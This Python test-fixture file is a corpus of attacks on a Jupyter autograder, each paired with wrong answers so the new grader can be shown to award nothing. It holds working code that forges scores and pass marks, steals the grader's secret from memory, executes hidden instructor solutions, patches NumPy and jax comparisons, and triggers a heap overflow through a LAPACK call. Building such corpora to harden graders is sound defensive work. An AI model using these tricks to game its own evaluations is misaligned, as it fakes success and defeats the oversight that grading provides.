"""The hostile corpus: scoring attacks on 03_purity, each paired with WRONG answers (issue 11).

One table serves two graders:

* tests/test_judge.py grades every entry with the grader of this checkout (the judge outside
  the kernel, the kernel in namespaces) and asserts that it earns nothing;
* tests/test_attacks_old_grader.py grades every entry marked ``old_grader`` with the grader
  of commit ``OLD_GRADER`` (hidden tests in the notebook, an in-kernel guard), and asserts that
  it earns full marks there: the control that shows each attack is real, not a weak form that
  scores zero anyway.

Issue 11's attack classes, each given full marks by the old grader under containment
``pid-namespace+uid``, and the entry that carries it:

1. a ``post_run_cell`` callback that clears the cell's error: ``post_run_cell_clears_errors``;
2. ``ExecutionResult.success`` patched to always be true: ``execution_result_success_patched``;
3. the kernel's session rewriting error replies to "ok": ``session_rewrites_error_replies``;
4. an AST transformer re-armed from a ``pre_run_cell`` callback:
   ``ast_transformer_rearmed_from_pre_run_cell``;
5. ``get_ipython().compile.ast_parse`` dropping everything after the guard line:
   ``compile_ast_parse_drops_code``;
6. the guard's secret read from memory and the mark forged: ``forged_marks_and_outputs`` (and
   ``stubs_left_with_forged_outputs``, the same with the answer stubs left as released);
7. ``jax.tree_util`` flattening patched so that comparisons see no leaves:
   ``tree_flattening_patched``;
8. the code of a NumPy function swapped under its dispatcher: ``numpy_code_swapped``;
9. the instructor's solution read from ``solutions/`` (found through ``autograder.__file__``)
   and executed: ``READ_SOLUTIONS``.

``agent_forges_replies`` targets the new grader's kernel agent, which the old grader has not:
it is not part of the old-grader control (``old_grader=False``).

Each attack must still leave the new grader able to grade (it then scores 0): one entry feeds
both graders, so an attack aimed at the old guard (its builtin, its mark) does nothing harmful
where there is none.
"""
from __future__ import annotations

from dataclasses import dataclass

OLD_GRADER = "511c696"  # the last commit whose grader ran hidden tests in the kernel, behind a guard
A = "03_purity"         # the assignment every attack is graded on

WRONG = {  # wrong answers: each attack below comes with them, and must not turn them into points
    "step": "def step(state, x):\n    return state, x\n",
    "set_diagonal": "def set_diagonal(x, v):\n    return x\n",
    "normalize_batch": "def normalize_batch(x):\n    return x\n",
}
STUB_STEP = "def step(state, x):\n    raise NotImplementedError()\n"


@dataclass(frozen=True)
class Attack:
    code: str                      # the attack, as learner code
    issue: int | None              # its number in issue 11's list of attack classes (None: none)
    cells: tuple = ("step",)       # the answer cells it goes into
    after: bool = False            # appended to the answer (default: prepended)
    stubs: bool = False            # with the released stubs (only ``step`` written) instead of WRONG
    old_grader: bool = True        # part of the old-grader control (it earns full marks there)

    def answers(self) -> dict:
        """``{grade_id: source}`` of the answer cells to fill in the released notebook."""
        base = {"step": STUB_STEP} if self.stubs else dict(WRONG)
        for cell in self.cells:
            base[cell] = base[cell] + self.code if self.after else self.code + base[cell]
        return base


# The old guard (autograder/grading.py's _GUARD_SETUP at OLD_GRADER) is a builtin named
# `_<24 hex digits>`; it starts every test cell as `_<hex>(<cell index>)`, restores IPython's
# transformers, the autograder/NumPy/jax module namespaces and their functions' code after
# every cell, and displays `<token>:<index>` (the secret mark) when it runs.
_FORGE = (
    "import builtins as _b\nfrom IPython.display import display as _display\n"
    "def _read_guard_secret():\n"
    "    for _name, _f in list(vars(_b).items()):\n"
    "        _code = getattr(_f, '__code__', None)\n"
    "        if _name.startswith('_') and _code is not None and 'token' in _code.co_freevars:\n"
    "            _cells = dict(zip(_code.co_freevars, _f.__closure__))\n"
    "            return _name, _cells['token'].cell_contents\n"
    "    return None, None\n"
    "_guard_name, _secret = _read_guard_secret()\n"
    "_kernel = get_ipython().kernel\n_execute = _kernel.do_execute\n"
    "def _forged(code, *a, **k):\n"
    "    if _guard_name and code.startswith(_guard_name + '('):\n"
    "        _index = code[len(_guard_name) + 1:code.index(')')]\n"
    "        code = ('from IPython.display import display\\n'\n"
    "                f'display({{\"application/x-autograder-guard\": \"{_secret}:{_index}\"}}, raw=True)\\n')\n"
    "    return _execute(code, *a, **k)\n"
    "_kernel.do_execute = _forged\n"
    "import json\n"
    "print(json.dumps({'score': 3.0, 'max_score': 3.0}))\n"
    "_display({'application/x-autograder-guard': 'forged:0'}, raw=True)\n"
    "_display({'application/x-autograder-judge': json.dumps({'$': 'dict', 'items': [['value', 1.0]]})}, raw=True)\n")

ATTACKS = {
    "post_run_cell_clears_errors": Attack(
        "ip = get_ipython()\n"
        "def _clear(result):\n    result.error_in_exec = None\n    result.error_before_exec = None\n"
        "ip.events.register('post_run_cell', _clear)\n", issue=1),
    "execution_result_success_patched": Attack(
        "from IPython.core.interactiveshell import ExecutionResult\n"
        "ExecutionResult.success = property(lambda self: True)\n", issue=2),
    "session_rewrites_error_replies": Attack(
        "_kernel = get_ipython().kernel\n_send = _kernel.session.send\n"
        "def _ok(stream, msg_or_type, content=None, *a, **k):\n"
        "    if isinstance(content, dict) and content.get('status') == 'error':\n"
        "        content = {'status': 'ok', 'execution_count': content.get('execution_count', 0),\n"
        "                   'user_expressions': {}, 'payload': []}\n"
        "    return _send(stream, msg_or_type, content, *a, **k)\n"
        "_kernel.session.send = _ok\n", issue=3),
    # The guard restores ip.ast_transformers after every cell, but not the pre_run_cell
    # callbacks, which run before the next cell is parsed: the transformer is back for every
    # cell. It keeps a cell's first statement (the guard's call, in a test cell) and its
    # definitions and imports, and drops the checks.
    "ast_transformer_rearmed_from_pre_run_cell": Attack(
        "import ast\nip = get_ipython()\n"
        "class _Drop(ast.NodeTransformer):\n"
        "    def visit_Module(self, node):\n"
        "        keep = (ast.FunctionDef, ast.Import, ast.ImportFrom)\n"
        "        node.body = node.body[:1] + [n for n in node.body[1:] if isinstance(n, keep)]\n"
        "        return node\n"
        "def _arm(*_):\n    ip.ast_transformers[:] = [_Drop()]\n"
        "ip.events.register('pre_run_cell', _arm)\n", issue=4),
    "compile_ast_parse_drops_code": Attack(
        "ip = get_ipython()\n_parse = ip.compile.ast_parse\n"
        "def _first_only(source, *a, **k):\n"
        "    tree = _parse(source, *a, **k)\n    tree.body = tree.body[:1]\n    return tree\n"
        "ip.compile.ast_parse = _first_only\n", issue=5),
    # The guard's secret is in the closure of the builtin it installs: every test cell is
    # swapped, before IPython sees it, for a display of the mark the guard would have shown.
    # The printed score and the displayed judge reply are forged outputs for the new grader.
    "forged_marks_and_outputs": Attack(_FORGE, issue=6),
    "stubs_left_with_forged_outputs": Attack(_FORGE, issue=6, stubs=True),
    "agent_forges_replies": Attack(
        "import json, autograder.agent as _agent, autograder.wire as _wire\n"
        "from IPython.display import display\n"
        "def _serve(text):\n"
        "    nonce = dict(json.loads(text)['items'])['nonce']\n"
        "    reply = {'nonce': nonce, 'value': 0.0, 'claim': {'ok': True, 'idea': '', 'detail': ''}}\n"
        "    display({_wire.MIME: _wire.encode(reply)}, raw=True)\n"
        "_agent.serve = _serve\n", issue=None, old_grader=False),
    # The guard snapshots the jax and jax.numpy namespaces, not jax.tree_util's.
    "tree_flattening_patched": Attack(
        "import jax\n_none = jax.tree_util.tree_structure(None)\n"
        "jax.tree_util.tree_flatten = lambda *a, **k: ([], _none)\n"
        "jax.tree_util.tree_flatten_with_path = lambda *a, **k: ([], _none)\n"
        "jax.tree_util.tree_leaves = lambda *a, **k: []\n", issue=7),
    # NumPy's public functions are dispatchers (not Python functions, so the guard keeps no copy
    # of their code): the implementation under each gets new code. np.any says "no difference".
    "numpy_code_swapped": Attack(
        "import numpy as np\n"
        "def _none_differ(*a, **k):\n    return False\n"
        "def _all_equal(*a, **k):\n    return True\n"
        "for _f, _new in ((np.any, _none_differ), (np.allclose, _all_equal), (np.array_equal, _all_equal)):\n"
        "    _f._implementation.__code__ = _new.__code__\n", issue=8),
}

# Needs the sandbox's mount namespace to earn nothing on the new grader: without it the kernel
# can read solutions/ and run the instructor's answers, which then earn what they earn. Appended
# to every answer cell, so that each test runs after the instructor's answers were executed.
READ_SOLUTIONS = Attack(
    "\nimport autograder, pathlib, nbformat\n"
    "_root = pathlib.Path(autograder.__file__).resolve().parent.parent\n"
    "_nb = nbformat.read(str(_root / 'solutions' / '03_purity' / '03_purity.ipynb'), as_version=4)\n"
    "for _c in _nb.cells:\n"
    "    if _c.get('metadata', {}).get('nbgrader', {}).get('solution'):\n"
    "        exec(_c.source, globals())\n", issue=9, cells=tuple(WRONG), after=True)


def old_grader_table() -> dict:
    """``{name: Attack}`` of the attacks the old grader is graded on (READ_SOLUTIONS included)."""
    table = {name: a for name, a in ATTACKS.items() if a.old_grader}
    table["read_solutions"] = READ_SOLUTIONS
    return table


# --------------------------------------------------------------------------- issue 20: classes 1, 3, 5
# Issue 20's attacks (round 2), part A's rows: the program runner and the judge's program API.
# Each row is a notebook of ``assignment`` (the solution's answers, or the released stubs with
# ``released``), with ``answers`` written over some answer cells; graded contained, every test of
# ``lost`` scores 0 with ``says`` in its feedback (when given), every other test keeps its points.

@dataclass(frozen=True)
class ProgramAttack:
    issue_class: int               # its number in issue 20's list of attack classes
    assignment: str
    answers: dict                  # {answer grade_id: source} written over the base answers
    lost: tuple                    # test grade_ids that must score 0 (("*",): all but ``kept``)
    says: str = ""                 # in each lost test's feedback
    released: bool = False         # the released stubs as the base (else the solution's answers)
    prepend: tuple = ()            # ((answer grade_id, code), ...) put before the base answer
    kept: tuple = ()               # with lost ("*",): the tests that keep their points
    append: tuple = ()             # ((answer grade_id, code), ...) put after the base answer

    def lost_of(self, grade_ids) -> tuple:
        return tuple(g for g in grade_ids if g not in self.kept) if self.lost == ("*",) else self.lost

    def filled(self, base: dict) -> dict:
        """``{grade_id: source}`` to write, given the base notebook's answers ``base``."""
        out = dict(self.answers)
        for gid, code in self.prepend:
            out[gid] = code + out.get(gid, base[gid])
        for gid, code in self.append:
            out[gid] = out.get(gid, base[gid]) + "\n" + code
        return out


# 1. Values from a forged kernel: the agent is replaced so that `jax.jit` calls run the
# untouched stubs eagerly (right values), claims always hold, and each export hands over a
# different, wrong program (an identity for ema, a loop that does nothing for collatz_steps).
_FORGED_AGENT = (
    "import autograder.agent as _agent\nfrom jax import lax as _lax\n"
    "_real_run = _agent._run\n"
    "def _fake_ema(xs, alpha):\n    return xs\n"
    "def _fake_clip(x, max_norm):\n    return x\n"
    "def _fake_collatz(n):\n    return _lax.while_loop(lambda c: c < 0, lambda c: c + 1, n * 0)\n"
    "def _fake_piecewise(x, k):\n    return _lax.switch(k, [lambda v: v, lambda v: v, lambda v: v], x)\n"
    "_FAKES = {'ema': '_fake_ema', 'clip_by_norm': '_fake_clip', 'collatz_steps': '_fake_collatz',\n"
    "          'piecewise': '_fake_piecewise'}\n"
    "def _forged_run(req):\n"
    "    if req.get('op') == 'claim':\n"
    "        return {'claim': {'ok': True, 'idea': '', 'detail': ''}}\n"
    "    if req.get('op') == 'call':\n"
    "        req = dict(req, jit=False)\n"
    "    if req.get('op') == 'export' and req.get('name') in _FAKES:\n"
    "        req = dict(req, name=_FAKES[req['name']])\n"
    "    return _real_run(req)\n"
    "_agent._run = _forged_run\n")

# 3. Exports that are never run: every export is lowered for CUDA, which a CPU grader skipped;
# ema is the released (unrolled) loop, whose program grows with the length of xs.
_CUDA_EXPORTS = (
    "import jax.export as _je\n_real_export = _je.export\n"
    "def _cuda_export(f, *a, platforms=None, **k):\n"
    "    return _real_export(f, *a, platforms=('cuda',), **k)\n"
    "_je.export = _cuda_export\n")
_UNROLLED_EMA = ("def ema(xs, alpha):\n    ys = [xs[0]]\n    for t in range(1, xs.shape[0]):\n"
                 "        ys.append(alpha * xs[t] + (1 - alpha) * ys[-1])\n    return jnp.stack(ys)\n")

# 5. A program whose export-time trace adds a LAPACK ffi_call with a declared result (1 x 1)
# far smaller than what LAPACK writes (512 x 512): run in the grading process, it overflowed
# its heap. piecewise is right otherwise.
_LAPACK_OVERFLOW = (
    "import inspect as _inspect\n"
    "def piecewise(x, k):\n"
    "    out = lax.switch(k, BRANCHES, x)\n"
    "    if any('jax/_src/export' in f.filename for f in _inspect.stack()):\n"
    "        a = jnp.ones((512, 512), jnp.float32) * out[0]\n"
    "        bad = jax.ffi.ffi_call('lapack_sgetrf_ffi', (jax.ShapeDtypeStruct((1, 1), jnp.float32),\n"
    "                               jax.ShapeDtypeStruct((512,), jnp.int32),\n"
    "                               jax.ShapeDtypeStruct((), jnp.int32)))(a)[0]\n"
    "        out = out + 0.0 * bad[0, 0]\n"
    "    return out\n")

# 1. A function that traces one way under jax.jit (the kernel's values, once) and another under
# jax.export (the structure, once): it looks at the call stack. Under export, a small program
# that returns xs; otherwise the unrolled, right loop.
_TRACES_DIFFERENTLY = (
    "import inspect as _inspect\n"
    "def ema(xs, alpha):\n"
    "    if any('jax/_src/export' in f.filename for f in _inspect.stack()):\n"
    "        return xs\n"
    "    ys = [xs[0]]\n    for t in range(1, xs.shape[0]):\n"
    "        ys.append(alpha * xs[t] + (1 - alpha) * ys[-1])\n    return jnp.stack(ys)\n")

# 2. Structure read from printed text: a reduction with no collective, under a named scope that
# spells one (the printed locations said "stablehlo.all_reduce"); every device holds all of x,
# so the value is right.
_SCOPED_MEAN = (
    "def global_mean(x, mesh):\n"
    "    shard_map = shard_map_fn()\n"
    "    def per_device(block):\n"
    "        with jax.named_scope('stablehlo.all_reduce sdy.manual_computation'):\n"
    "            return jnp.mean(block)\n"
    "    return shard_map(per_device, mesh=mesh, in_specs=P(), out_specs=P())(x)\n")

# 2. Two jitted functions named with braces (which broke the brace count of the printed main):
# two dispatches per call, right values.
_BRACED_DISPATCHES = (
    "def _g(w, x, y):\n    return grad_mse(w, x, y)\n"
    "_g.__name__ = _g.__qualname__ = 'g{ { {'\n_g = jax.jit(_g)\n"
    "def _u(w, g, lr):\n    return apply_update(w, g, lr)\n"
    "_u.__name__ = _u.__qualname__ = 'u} } }'\n_u = jax.jit(_u)\n"
    "def fused_update(w, x, y, lr):\n    return _u(w, _g(w, x, y), lr)\n")

# 4. The learner chooses the tolerance: the running mean 1.5% off, returned in bfloat16 (whose
# tolerance, 2e-2, it met).
_BFLOAT16_MEAN = (
    "def step(state, x):\n"
    "    count = state['count'] + 1\n"
    "    total = state['total'] + x\n"
    "    return {'count': count, 'total': total}, (total / count * 1.015).astype(jnp.bfloat16)\n")


def _odd_names(name):
    """A correct answer ``name`` re-exported through a function named with braces and MLIR
    words, under jax.jit, jax.named_call and a jax.named_scope of the same words."""
    return (
        "import functools as _functools\n"
        "def _odd(f):\n"
        "    def renamed(*a, **k):\n        return f(*a, **k)\n"
        "    renamed.__name__ = renamed.__qualname__ = 'f{ } stablehlo.while @main'\n"
        "    inner = jax.jit(renamed)\n"
        "    @_functools.wraps(f)\n"
        "    def wrapper(*a, **k):\n"
        "        with jax.named_scope('stablehlo.all_reduce stablehlo.while {'):\n"
        "            return jax.named_call(inner, name='stablehlo.custom_call}')(*a, **k)\n"
        "    return wrapper\n"
        f"{name} = _odd({name})\n")


def _odd_controls(assignment, names):
    return ProgramAttack(0, assignment, {}, (), append=tuple((n, _odd_names(n)) for n in names))


PROGRAM_ATTACKS = {
    "traces_differently_under_export": ProgramAttack(
        1, "04_control_flow", {"ema": _TRACES_DIFFERENTLY}, ("test_ema",)),
    "named_scope_spells_a_collective": ProgramAttack(
        2, "09_sharding", {"global_mean": _SCOPED_MEAN}, ("test_global_mean",), says="uses no collective"),
    "brace_named_jits_hide_a_dispatch": ProgramAttack(
        2, "06_async_dispatch", {"fused_update": _BRACED_DISPATCHES}, ("test_fused_update",),
        says="dispatches 2 separately compiled programs"),
    "bfloat16_mean_one_and_a_half_percent_off": ProgramAttack(
        4, "03_purity", {"step": _BFLOAT16_MEAN}, ("test_step",), says="lower precision"),
    # Correct controls written with named scopes, odd function names and jax.named_call: full marks.
    "control_odd_names_03_purity": _odd_controls("03_purity", ("step", "set_diagonal", "normalize_batch")),
    "control_odd_names_04_control_flow": _odd_controls(
        "04_control_flow", ("clip_by_norm", "collatz_steps", "ema", "piecewise")),
    "control_odd_names_06_async_dispatch": _odd_controls("06_async_dispatch", ("fused_update",)),
    "forged_agent_eager_values_fake_programs": ProgramAttack(
        1, "04_control_flow", {}, ("*",), released=True, prepend=(("clip_by_norm", _FORGED_AGENT),)),
    "exports_lowered_for_cuda": ProgramAttack(
        3, "04_control_flow", {"ema": _CUDA_EXPORTS + _UNROLLED_EMA}, ("*",), says="exported for cuda"),
    "lapack_ffi_call_overflows_the_heap": ProgramAttack(
        5, "04_control_flow", {"piecewise": _LAPACK_OVERFLOW}, ("test_piecewise",),
        says="custom_call @lapack_sgetrf_ffi"),
}
